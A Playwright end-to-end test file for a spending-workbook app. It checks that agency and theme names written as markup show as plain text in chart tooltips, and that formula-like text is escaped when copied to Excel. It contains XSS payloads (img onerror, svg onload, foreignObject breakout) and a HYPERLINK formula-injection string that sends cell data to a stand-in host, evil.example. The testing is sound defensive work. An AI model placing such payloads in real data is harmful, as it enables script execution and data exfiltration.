/**
 * A workbook whose names are markup (legal text: a name may hold any characters) shows them as text in
 * every chart of the totals panel: each chart's tooltip, hovered part by part, holds the name as written,
 * no element in a chart came from the data, nothing ran, and the page logged no error.
 */
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { Workbook } from '../../electron/workbook/workbook';
import { SCREENSHOTS } from './harness';
import { useBrowser } from './lifecycle';

const browser = useBrowser();

const AGENCY_IMG = '<img src=x onerror="window.__pwned=1">';
const AGENCY_SVG = '"><svg onload="window.__pwned=2"><b>agency</b>';
const THEME_BOLD = '<b>bold</b> theme';
const THEME_STYLE = '</text><foreignObject><img src=x onerror="window.__pwned=3"></foreignObject>';
const CHARTS = ['control', 'types', 'treemap', 'themes', 'barriers'] as const;

/** The text drawn in a chart's SVG: its labels, and its tooltip when one shows (ECharts draws it there, as text). */
async function chartText(page: Page, chart: string): Promise<string> {
  return page.locator(`[data-chart="${chart}"]`).evaluate((el) => [...el.querySelectorAll('svg text')].map((t) => t.textContent ?? '').join('\n'));
}

/**
 * Hover every drawn part of a chart where a user would — a point inside the part's fill that is on
 * top there (a donut's segment, a bar, a treemap's box) — and gather what the chart shows each time.
 */
async function hoverEveryPart(page: Page, chart: string): Promise<string[]> {
  const root = page.locator(`[data-chart="${chart}"]`);
  await root.scrollIntoViewIfNeeded();
  const points = await root.evaluate((el) => {
    const out: { x: number; y: number }[] = [];
    for (const p of el.querySelectorAll<SVGPathElement>('svg path')) {
      const fill = p.getAttribute('fill') ?? 'none';
      if (fill === 'none' || fill === 'transparent') continue;
      const box = p.getBBox();
      const m = p.getScreenCTM();
      if (!m || box.width < 2 || box.height < 2) continue;
      search: for (let i = 1; i < 8; i++) {
        for (let j = 1; j < 8; j++) {
          const local = new DOMPoint(box.x + (box.width * i) / 8, box.y + (box.height * j) / 8);
          if (!p.isPointInFill(local)) continue;
          const screen = local.matrixTransform(m);
          if (document.elementFromPoint(screen.x, screen.y) !== p) continue;
          out.push({ x: screen.x, y: screen.y });
          break search;
        }
      }
    }
    return out;
  });
  expect(points.length, `parts of the ${chart} chart`).toBeGreaterThan(0);
  const seen: string[] = [];
  for (const pt of points) {
    await page.mouse.move(pt.x, pt.y);
    await expect.poll(() => chartText(page, chart)).toMatch(/:\s/);
    seen.push(await chartText(page, chart));
    await page.mouse.move(1, 1);
    await expect.poll(() => chartText(page, chart)).not.toMatch(/:\s/);
  }
  return seen;
}

/** Every element in a chart: ECharts' own wrapper and SVG drawing, nothing else (no img, b, foreignObject, script, second svg). */
async function chartElements(page: Page, chart: string): Promise<{ tags: string[]; svgs: number }> {
  return page.locator(`[data-chart="${chart}"]`).evaluate((el) => ({
    tags: [...new Set([...el.querySelectorAll('*')].map((e) => e.localName))],
    svgs: el.querySelectorAll('svg').length,
  }));
}

const SVG_DRAWING = new Set(['div', 'svg', 'g', 'path', 'text', 'tspan', 'rect', 'defs', 'clipPath', 'style', 'polyline', 'polygon', 'circle', 'line', 'title', 'filter', 'feDropShadow', 'linearGradient', 'radialGradient', 'stop']);

describe('names that look like markup', () => {
  it('are text in every chart of the totals panel, and run nothing', async () => {
    const h = await browser.start({ height: 1800 });
    const page = h.page;
    const file = h.file('hostile names.totalplace');
    const wb = Workbook.create(file, { author: 'x', pilot: { name: 'Hostile names pilot' } });
    const [a1, a2] = wb.agencies.create([
      { name: AGENCY_IMG, type: 'county_council', tier: 'local', control: 'local' },
      { name: AGENCY_SVG, type: 'police_authority', tier: 'national', control: 'central' },
    ]);
    const [t1, t2] = wb.themes.create([{ name: THEME_BOLD }, { name: THEME_STYLE }]);
    wb.spend.create([
      { agencyId: a1!.id, themeId: t1!.id, description: 'Care', amountPence: 500_000_000_00 },
      { agencyId: a2!.id, themeId: t2!.id, description: 'Patrol', amountPence: 300_000_000_00 },
    ]);
    wb.barriers.create([{ title: AGENCY_IMG, category: 'ring_fenced_funding' }, { title: THEME_BOLD, category: 'data_sharing_it' }]);
    wb.close();
    h.answerDialog(file);
    await page.getByRole('button', { name: 'Open…' }).click();
    await page.getByTestId('total-spend').waitFor();
    for (const chart of CHARTS) await page.locator(`[data-chart="${chart}"] svg`).waitFor();

    const tips: Record<string, string> = {};
    // Long tooltips are wrapped into lines (drawn as one text element each), a long word split: compare without spaces.
    const flat = (s: string) => s.replace(/\s+/g, '');
    for (const chart of CHARTS) tips[chart] = flat((await hoverEveryPart(page, chart)).join(''));
    await page.mouse.move(0, 0);
    // Each name as written, in the tooltip of its part: the agencies (treemap), the themes, the fixed labels.
    expect(tips.treemap).toContain(flat(`${AGENCY_IMG}: £500.0m (62.5%)`));
    expect(tips.treemap).toContain(flat(`${AGENCY_SVG}: £300.0m (37.5%)`));
    expect(tips.themes).toContain(flat(`${THEME_BOLD}: £500.0m`));
    expect(tips.themes).toContain(flat(`${THEME_STYLE}: £300.0m`));
    expect(tips.control).toContain(flat('Locally controlled: £500.0m (62.5%)'));
    expect(tips.control).toContain(flat('Centrally controlled: £300.0m (37.5%)'));
    expect(tips.types).toContain(flat('County council: £500.0m'));
    expect(tips.types).toContain(flat('Police authority: £300.0m'));
    expect(tips.barriers).toContain(flat('Ring-fenced and fragmented funding: 1 barrier'));
    expect(tips.barriers).toContain(flat('Data sharing and IT: 1 barrier'));
    for (const chart of CHARTS) {
      await page.locator(`[data-chart="${chart}"]`).hover();
      const { tags, svgs } = await chartElements(page, chart);
      expect(tags.filter((t) => !SVG_DRAWING.has(t)), `elements in the ${chart} chart`).toEqual([]);
      expect(svgs, chart).toBe(1);
    }
    // Nothing from the data became an element anywhere in the window, and nothing ran.
    await expect(page.locator('img[src="x"], foreignObject, b:text("agency"), b:text("bold")').count()).resolves.toBe(0);
    await expect(page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).resolves.toBeUndefined();
    await page.locator('[data-chart="treemap"]').hover({ position: { x: 40, y: 40 } });
    await expect.poll(async () => flat(await chartText(page, 'treemap'))).toContain(flat(`${AGENCY_IMG}: £500.0m`));
    await page.locator('.panel').screenshot({ path: `${SCREENSHOTS}/70-hostile-names-tooltip.png` });
  });

  it('copy to Excel writes text that looks like a formula as text, and pastes back unchanged', async () => {
    const h = await browser.start();
    const page = h.page;
    const file = h.file('formulas.totalplace');
    const wb = Workbook.create(file, { author: 'x', pilot: { name: 'Formulas pilot' } });
    const [agency] = wb.agencies.create([{ name: '@SUM(A1:A9)' }]);
    const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")';
    const [line] = wb.spend.create([{ agencyId: agency!.id, description: HYPERLINK, amountPence: -150_005 }]);
    wb.close();
    h.answerDialog(file);
    await page.getByRole('button', { name: 'Open…' }).click();
    await page.getByRole('tab', { name: /Spend/ }).click();
    await page.locator(`.ag-row[row-id="${line!.id}"] input[type="checkbox"]`).check();
    await page.locator(`.ag-row[row-id="${line!.id}"] .ag-cell[col-id="description"]`).click();
    const copied = await page.evaluate(() => {
      const dt = new DataTransfer();
      document.activeElement!.dispatchEvent(new ClipboardEvent('copy', { clipboardData: dt, bubbles: true, cancelable: true }));
      return { text: dt.getData('text/plain'), html: dt.getData('text/html') };
    });
    const cells = copied.text.split('\t');
    // Text with an apostrophe (Excel and LibreOffice show it as text); the negative amount as a number.
    expect(cells.slice(0, 3)).toEqual(["'@SUM(A1:A9)", `"'${HYPERLINK.replace(/"/g, '""')}"`, '-£1500.05']);
    expect(copied.html).toContain(`<td style="mso-number-format:'\\@'">@SUM(A1:A9)</td>`);
    expect(copied.html).toContain('<td>-£1500.05</td>');
    // Pasted onto the new-row line, the same text and amount come back.
    await page.locator('.ag-row[row-id="__new__"] .ag-cell[col-id="agencyId"]').click();
    await page.evaluate((t) => {
      const dt = new DataTransfer();
      dt.setData('text/plain', t);
      document.activeElement!.dispatchEvent(new ClipboardEvent('paste', { clipboardData: dt, bubbles: true, cancelable: true }));
    }, copied.text);
    await expect.poll(() => h.session.workbook().spend.page({ limit: 10 }).rows.length).toBe(2);
    const rows = h.session.workbook().spend.page({ limit: 10 }).rows;
    expect(rows.map((r) => [r.agencyId, r.description, r.amountPence])).toEqual([[agency!.id, HYPERLINK, -150_005], [agency!.id, HYPERLINK, -150_005]]);
  });
});
